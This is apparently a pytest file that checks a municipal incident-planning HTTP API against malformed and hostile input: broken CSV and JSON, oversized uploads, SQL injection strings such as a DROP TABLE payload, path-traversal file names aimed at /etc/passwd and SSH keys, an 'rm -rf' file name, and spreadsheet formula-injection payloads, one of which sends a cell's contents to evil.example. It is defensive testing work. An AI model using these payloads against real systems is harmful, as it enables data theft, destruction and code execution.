"""Hostile and broken input against the HTTP API on a copy of the demo town: each request gets its
exact 4xx and leaves every table of the database exactly as it was (compared row by row)."""

from __future__ import annotations

import asyncio
import copy
import csv
import io
import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx
import pandas as pd
import pytest
import yaml
from fastapi.testclient import TestClient

from tests.support import DEMO_TODAY, DEMO_WEEK, auth, finished, table_dump
from tryggplan.service.app import create_app
from tryggplan.service.settings import Settings
from tryggplan.storage.tokens import create_token

HEADER = "incident_id,occurred_at,place_id,category,source,weight\n"
ROW = "h1,2025-11-20T21:10:00+01:00,stortorget,vandalism,reporter,1\n"


def _upload(client: TestClient, token: str, name: str, data: bytes, **params: Any) -> httpx.Response:
    return client.post(
        "/api/v1/incidents/upload",
        files={"file": (name, data, "text/csv")},
        headers=auth(token),
        params=params,
    )


BAD_FILES = [
    ("truncated row", HEADER + ROW + "h2,2025-11-20T2", ["field_count", "bad_timestamp", "empty_place"]),
    ("unclosed quote", HEADER + 'h1,"2025-11-20T21:10:00+01:00,stortorget,x,y,1\n', None),
    ("header only cut", "incident_id,occurred_at,pla", ["missing_column"]),
    ("utf-16 without BOM", (HEADER + ROW).encode("utf-16-le"), ["binary_file"]),
    ("utf-32", (HEADER + ROW).encode("utf-32"), None),
    ("binary", bytes(range(256)) * 40, ["binary_file"]),
    ("NUL byte in a value", HEADER + ROW.replace("h1", "h\x001"), ["nul_bytes"]),
    ("far future", HEADER + ROW.replace("2025-11-20", "2999-11-20"), ["bad_timestamp"]),
    ("next year", HEADER + ROW.replace("2025-11-20", "2027-11-20"), ["future"]),
    ("pre-1900", HEADER + ROW.replace("2025-11-20", "1850-11-20"), ["too_old"]),
    ("year 1200", HEADER + ROW.replace("2025-11-20", "1200-11-20"), ["bad_timestamp"]),
    (
        "nonexistent local time",
        HEADER + ROW.replace("2025-11-20T21:10:00+01:00", "2025-03-30 02:30"),
        ["nonexistent_time"],
    ),
    ("SQL in place_id", HEADER + ROW.replace("stortorget", "x' OR '1'='1"), ["unknown_place"]),
    ("empty", b"", ["empty_file"]),
]


@pytest.mark.parametrize(("what", "data", "kinds"), BAD_FILES, ids=[b[0] for b in BAD_FILES])
def test_bad_upload_gets_422_and_leaves_the_database_unchanged(
    demo_client: TestClient, demo_tokens: dict[str, str], demo_db: Path, what: str, data: Any, kinds: Any
) -> None:
    before = table_dump(demo_db)
    body = data.encode("utf-8") if isinstance(data, str) else data
    r = _upload(demo_client, demo_tokens["analyst"], "incidents.csv", body)
    assert r.status_code == 422, r.text
    problems = r.json()["problems"]
    assert problems, r.text
    if kinds is not None:
        assert sorted({p["kind"] for p in problems}) == sorted(kinds)
    assert r.json()["detail"].startswith("nothing imported: incidents.csv: ")
    assert table_dump(demo_db) == before


def test_skip_invalid_does_not_rescue_a_binary_file(
    demo_client: TestClient, demo_tokens: dict[str, str], demo_db: Path
) -> None:
    before = table_dump(demo_db)
    r = _upload(demo_client, demo_tokens["analyst"], "x.csv", bytes(range(256)) * 40, skip_invalid=True)
    assert r.status_code == 422
    assert table_dump(demo_db) == before


# --------------------------------------------------------------------------- size limits


def _limited_app(db: Path, limit: int) -> Any:
    return create_app(Settings(database_url=f"sqlite:///{db}", max_upload_bytes=limit))


LIMIT = 1_000_000
TOO_BIG = 200 * 1024 * 1024  # 200 MB


def test_200_mb_declared_upload_is_refused_before_reading(demo_db: Path) -> None:
    """Content-Length says 200 MB: 413 at once; the body is never asked for."""
    app = _limited_app(demo_db, LIMIT)
    token = create_token(app.state.engine, "analyst")[0]
    before = table_dump(demo_db)
    sent = 0

    async def body() -> AsyncIterator[bytes]:
        nonlocal sent
        chunk = b"x" * 65536
        while sent < TOO_BIG:
            sent += len(chunk)
            yield chunk

    async def go() -> httpx.Response:
        transport = httpx.ASGITransport(app=app)
        async with httpx.AsyncClient(transport=transport, base_url="http://test") as client:
            return await client.post(
                "/api/v1/incidents/upload",
                content=body(),
                headers={
                    **auth(token),
                    "content-type": "multipart/form-data; boundary=xyz",
                    "content-length": str(TOO_BIG),
                },
            )

    r = asyncio.run(go())
    app.state.engine.dispose()
    assert r.status_code == 413
    assert r.json()["detail"] == (
        f"request body is larger than {LIMIT} bytes, over the limit max_upload_bytes: split the file or raise "
        "TRYGGPLAN_MAX_UPLOAD_BYTES"
    )
    assert (r.json()["limit"], r.json()["value"]) == ("max_upload_bytes", LIMIT)
    assert sent <= 65536  # at most the first chunk the client pushed before the answer
    assert table_dump(demo_db) == before


def test_200_mb_streamed_upload_is_cut_off_at_the_limit(demo_db: Path) -> None:
    """No Content-Length (chunked): the app counts while it streams and stops just past the limit,
    so at most ``limit + one chunk`` is ever read, not 200 MB."""
    app = _limited_app(demo_db, LIMIT)
    token = create_token(app.state.engine, "analyst")[0]
    before = table_dump(demo_db)
    sent = 0
    chunk = 65536

    async def body() -> AsyncIterator[bytes]:
        nonlocal sent
        yield b'--xyz\r\nContent-Disposition: form-data; name="file"; filename="big.csv"\r\n\r\n'
        yield HEADER.encode()
        while sent < TOO_BIG:
            sent += chunk
            yield (ROW * (chunk // len(ROW) + 1)).encode()[:chunk]

    async def go() -> httpx.Response:
        transport = httpx.ASGITransport(app=app)
        async with httpx.AsyncClient(transport=transport, base_url="http://test") as client:
            return await client.post(
                "/api/v1/incidents/upload",
                content=body(),
                headers={**auth(token), "content-type": "multipart/form-data; boundary=xyz"},
            )

    r = asyncio.run(go())
    app.state.engine.dispose()
    assert r.status_code == 413, (sent, r.text)
    assert sent <= LIMIT + 2 * chunk
    assert table_dump(demo_db) == before


def test_huge_json_batch_is_refused_by_size(
    demo_client: TestClient, demo_tokens: dict[str, str], demo_db: Path
) -> None:
    before = table_dump(demo_db)
    rows = [
        {"incident_id": f"j{i}", "occurred_at": "2025-11-20T21:10:00+01:00", "place_id": "stortorget"}
        for i in range(40_000)
    ]
    r = demo_client.post("/api/v1/incidents", json={"incidents": rows}, headers=auth(demo_tokens["analyst"]))
    assert r.status_code == 413  # demo_settings: 2 MB
    assert table_dump(demo_db) == before


@pytest.mark.parametrize(
    ("what", "body", "status"),
    [
        ("deeply nested array", b"[" * 100_000 + b"]" * 100_000, 400),
        ("deeply nested in a field", b'{"incidents":' + b"[" * 5000 + b"]" * 5000 + b"}", 400),
        ("truncated JSON", b'{"incidents": [{"incident_id": "a", "occ', 422),
        ("not JSON", b"\xff\xfe\x00garbage", 422),
        ("a string", b'"incidents"', 422),
        (
            "NUL in a value",
            b'{"incidents": [{"incident_id": "a\\u0000b", "occurred_at": "2025-11-20T21:10:00+01:00",'
            b' "place_id": "stortorget"}]}',
            422,
        ),
        (
            "control character",
            b'{"incidents": [{"incident_id": "a\\u0001b", "occurred_at": '
            b'"2025-11-20T21:10:00+01:00", "place_id": "stortorget"}]}',
            422,
        ),
        (
            "far future",
            b'{"incidents": [{"incident_id": "f", "occurred_at": "2999-11-20T21:10:00+01:00",'
            b' "place_id": "stortorget"}]}',
            422,
        ),
        (
            "pre-1900",
            b'{"incidents": [{"incident_id": "f", "occurred_at": "1899-12-31T23:59:00+01:00",'
            b' "place_id": "stortorget"}]}',
            422,
        ),
    ],
)
def test_hostile_json_gets_4xx_and_changes_nothing(
    demo_client: TestClient, demo_tokens: dict[str, str], demo_db: Path, what: str, body: bytes, status: int
) -> None:
    before = table_dump(demo_db)
    r = demo_client.post(
        "/api/v1/incidents",
        content=body,
        headers={**auth(demo_tokens["analyst"]), "content-type": "application/json"},
    )
    assert r.status_code == status, r.text
    assert r.json()["detail"]
    assert table_dump(demo_db) == before


def test_nul_in_urls_gets_422(demo_client: TestClient, demo_tokens: dict[str, str]) -> None:
    h = auth(demo_tokens["admin"])
    for url in (
        "/api/v1/incidents?place_id=a%00b",
        "/api/v1/places/a%00b",
        "/api/v1/forecasts/latest/grid?municipality=x%00",
    ):
        r = demo_client.get(url, headers=h)
        assert r.status_code == 422
        assert r.json()["detail"] == "the URL contains a NUL character: remove it"
    r = demo_client.post("/api/v1/places", json={"place_id": "p\x00"}, headers=h)
    assert (r.status_code, r.json()["detail"]) == (422, "the JSON body contains a NUL character: remove it")
    # an escaped backslash followed by u0000 is text, not NUL
    r = demo_client.post(
        "/api/v1/places", content=b'{"place_id": "p\\\\u0000"}', headers={**h, "content-type": "application/json"}
    )
    assert r.status_code == 201 and r.json()["place_id"] == "p\\u0000"


# --------------------------------------------------------------------------- SQL metacharacters

SQL_TEXTS = [
    "x'; DROP TABLE incidents; --",
    'x" OR "1"="1',
    "' OR 1=1 --",
    "100%",
    "a_b",
    "back\\slash",
    "semi;colon",
    "ünïcødé ✓",
]


@pytest.mark.parametrize("text", SQL_TEXTS)
def test_sql_metacharacters_are_data_not_code(
    demo_client: TestClient, demo_tokens: dict[str, str], demo_db: Path, text: str
) -> None:
    h = auth(demo_tokens["admin"])
    incidents_before = len(table_dump(demo_db)["incidents"])
    place = {"place_id": text, "name": text, "municipality": text, "kind": text, "area": text}
    r = demo_client.post("/api/v1/places", json=place, headers=h)
    assert r.status_code == 201, r.text
    assert r.json() == {**place, "lat": None, "lon": None}
    r = demo_client.post(
        "/api/v1/incidents",
        json={
            "incidents": [
                {
                    "incident_id": text,
                    "occurred_at": "2025-11-20T21:10:00+01:00",
                    "place_id": text,
                    "category": text,
                    "source": text,
                }
            ]
        },
        headers=h,
    )
    assert r.status_code == 201 and r.json()["added"] == 1, r.text
    # every string query parameter: exactly the one row, never "everything"
    got = demo_client.get("/api/v1/incidents", params={"place_id": text}, headers=h).json()
    # categories are normalised to lower case; ids and sources are kept verbatim
    assert [(i["incident_id"], i["category"], i["source"]) for i in got["incidents"]] == [(text, text.lower(), text)]
    got = demo_client.get("/api/v1/incidents", params={"municipality": text}, headers=h).json()
    assert got["total"] == 1
    assert [
        p["place_id"] for p in demo_client.get("/api/v1/places", params={"municipality": text}, headers=h).json()
    ] == [text]
    agg = demo_client.get("/api/v1/aggregates/incidents", params={"municipality": text}, headers=h).json()
    assert [(row["place_id"], row["count"]) for row in agg["rows"]] == [(text, 1)]
    assert demo_client.get("/api/v1/places/" + httpx.URL("/" + text).raw_path.decode()[1:], headers=h).status_code in (
        200,
        404,
    )
    r = demo_client.get("/api/v1/forecasts/latest/grid", params={"municipality": text, "place_id": text}, headers=h)
    assert r.status_code == 200 and r.json()["rows"] == []  # the forecast predates the place
    for url in ("/api/v1/forecasts/latest/grid", "/api/v1/plans/current"):
        assert demo_client.get(url, params={"start": text}, headers=h).status_code in (200, 422)
    assert demo_client.get(f"/api/v1/forecasts/{text}", headers=h).status_code in (404, 422)
    assert demo_client.get("/api/v1/plans", params={"week": text}, headers=h).status_code == 422
    assert len(table_dump(demo_db)["incidents"]) == incidents_before + 1
    assert len(demo_client.get("/api/v1/places", headers=h).json()) == 17


# --------------------------------------------------------------------------- file names


@pytest.mark.parametrize(
    ("name", "stored"),
    [
        ("../../../../etc/passwd", "passwd"),
        ("..\\..\\windows\\system32\\x.csv", "x.csv"),
        ("/abs/path/incidents.csv", "incidents.csv"),
        ("....", "upload.csv"),
        ("a b;rm -rf ~.csv", "a_b_rm_-rf_.csv"),
        ("~/.ssh/authorized_keys", "authorized_keys"),
    ],
)
def test_path_like_file_names_are_reduced_to_a_safe_base_name(
    demo_client: TestClient, demo_tokens: dict[str, str], name: str, stored: str
) -> None:
    r = _upload(demo_client, demo_tokens["analyst"], name, (HEADER + ROW).encode())
    assert r.status_code == 201, r.text
    assert r.json()["source_file"] == stored
    imports = demo_client.get("/api/v1/imports", headers=auth(demo_tokens["analyst"])).json()
    assert imports[0]["source_file"] == stored


# --------------------------------------------------------------------------- weeks and plans


@pytest.mark.parametrize(
    ("week", "detail"),
    [
        ("2026-W54", "week '2026-W54' does not exist: 2026 has 53 ISO weeks"),
        ("2025-W53", "week '2025-W53' does not exist: 2025 has 52 ISO weeks"),
        ("2026-W00", "week '2026-W00' does not exist: 2026 has 53 ISO weeks"),
        ("0000-W01", "week '0000-W01' is out of range: the year must be between 1678 and 2261"),
        ("1411-W44", "week '1411-W44' is out of range: the year must be between 1678 and 2261"),
        ("9999-W52", "week '9999-W52' is out of range: the year must be between 1678 and 2261"),
        ("26-W01", "invalid request: body.week: String should match pattern '^\\d{4}-W\\d{2}$'"),
        ("2026W01", "invalid request: body.week: String should match pattern '^\\d{4}-W\\d{2}$'"),
        ("vecka 49", "invalid request: body.week: String should match pattern '^\\d{4}-W\\d{2}$'"),
    ],
)
def test_invalid_iso_weeks_get_422(
    demo_client: TestClient, demo_tokens: dict[str, str], demo_db: Path, week: str, detail: str
) -> None:
    before = table_dump(demo_db)
    r = demo_client.post("/api/v1/plans", json={"week": week}, headers=auth(demo_tokens["coordinator"]))
    assert (r.status_code, r.json()["detail"]) == (422, detail)
    assert table_dump(demo_db) == before


def test_a_plan_far_outside_the_forecast_and_a_1000_week_season_are_refused(
    demo_client: TestClient, demo_tokens: dict[str, str], demo_db: Path
) -> None:
    """A weekly plan ~1000 weeks out names the forecast's range; a season of 1000 weeks is refused
    by the resources spec (at most 106 weeks); a season plan from a far week stays bounded."""
    before = table_dump(demo_db)
    h = auth(demo_tokens["coordinator"])
    r = demo_client.post("/api/v1/plans", json={"week": "2045-W10"}, headers=h)
    assert r.status_code == 422, r.text
    assert r.json()["detail"].startswith(
        "the forecast does not cover week 2045-W10 (it covers 2025-12-03 00:00 to 2025-12-16 23:00)"
    )
    spec = demo_client.get("/api/v1/resources", headers=h).json()[0]["spec"]
    spec["season"]["horizon_weeks"] = 1000
    r = demo_client.post("/api/v1/resources", json={"name": "1000 weeks", "spec": spec}, headers=h)
    assert r.status_code == 422, r.text
    assert "season.horizon_weeks" in r.json()["detail"]
    assert table_dump(demo_db) == before
    r = demo_client.post("/api/v1/plans", json={"week": "2045-W10", "kind": "season"}, headers=h)
    assert r.status_code == 201, r.text
    assert len(r.json()["plan"]["weeks"]) == 26  # the spec's horizon, not unbounded


def test_bad_query_times_get_422(demo_client: TestClient, demo_tokens: dict[str, str]) -> None:
    h = auth(demo_tokens["admin"])
    for url, value in [
        ("/api/v1/aggregates/incidents", "0001-01-01T00:00"),
        ("/api/v1/incidents", "2025-03-30T02:30"),
        ("/api/v1/forecasts/latest/grid", "tomorrow"),
        ("/api/v1/forecasts/latest/heatmap", "99999-01-01"),
    ]:
        r = demo_client.get(url, params={"start": value}, headers=h)
        assert r.status_code == 422, (url, value, r.text)
        assert r.json()["detail"].startswith(f"start {value!r}")


# --------------------------------------------------------------------------- formula injection

EVIL_PLACE = '=HYPERLINK("http://evil.example/?"&A1,"klicka")'
EVIL_AREA = "+cmd|' /C calc'!A0"
EVIL_ASSOC = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_NAME = "-2+3+cmd|' /C calc'!A0"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _assert_no_formula(text: str, sep: str) -> list[str]:
    cells = [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=sep) for c in row]
    for cell in cells:
        if cell.startswith(DANGEROUS):
            # numbers may be negative; nothing else may start like a formula
            float(cell.replace(",", "."))
    return cells


def test_formula_injection_is_escaped_in_every_csv_export(demo_client: TestClient, demo_tokens: dict[str, str]) -> None:
    from tryggplan.allocation import demo_resources

    h = auth(demo_tokens["admin"])
    r = demo_client.post(
        "/api/v1/places",
        json={"place_id": EVIL_PLACE, "name": EVIL_NAME, "municipality": "Arboga", "area": EVIL_AREA},
        headers=h,
    )
    assert r.status_code == 201, r.text
    places = pd.DataFrame(demo_client.get("/api/v1/places", headers=h).json())
    spec = copy.deepcopy(demo_resources(places[places["place_id"] != EVIL_PLACE]))
    centrum = next(a for a in spec["areas"] if a["name"] == "Centrum")
    centrum["name"] = EVIL_AREA
    centrum["place_ids"] = [EVIL_PLACE, *centrum["place_ids"]]
    for assoc in spec["associations"]:
        assoc["name"] = EVIL_ASSOC if assoc["name"] == "Nattvandrarna Centrum" else assoc["name"]
        if "areas" in assoc:
            assoc["areas"] = [EVIL_AREA if a == "Centrum" else a for a in assoc["areas"]]
    spec["guard"]["places"] = [EVIL_PLACE, *spec["guard"]["places"]]
    spec = json.loads(json.dumps(yaml.safe_load(yaml.safe_dump(spec))))
    r = demo_client.post("/api/v1/resources", json={"name": EVIL_NAME, "spec": spec}, headers=h)
    assert r.status_code == 201, r.text
    r = demo_client.post(
        "/api/v1/forecasts", json={"model": "how_mean", "start": str(DEMO_TODAY), "days": 14}, headers=h
    )
    assert r.status_code == 202, r.text
    run_id = r.json()["id"]
    assert finished(demo_client, f"/api/v1/forecasts/{run_id}", h)["status"] == "done"
    r = demo_client.post("/api/v1/plans", json={"week": DEMO_WEEK, "forecast_run_id": run_id}, headers=h)
    assert r.status_code == 201, r.text
    plan_id = r.json()["id"]

    grid_csv = demo_client.get(f"/api/v1/forecasts/{run_id}/grid.csv", headers=h)
    assert grid_csv.status_code == 200
    cells = _assert_no_formula(grid_csv.text, ",")
    assert "'" + EVIL_PLACE in cells

    plan_csv = demo_client.get(f"/api/v1/plans/{plan_id}/plan.csv", headers=h)
    assert plan_csv.status_code == 200
    cells = _assert_no_formula(plan_csv.content.decode("utf-8"), ";")
    assert "'" + EVIL_AREA in cells
    assert any(c.startswith("'" + EVIL_PLACE) for c in cells) or "'" + EVIL_ASSOC in cells
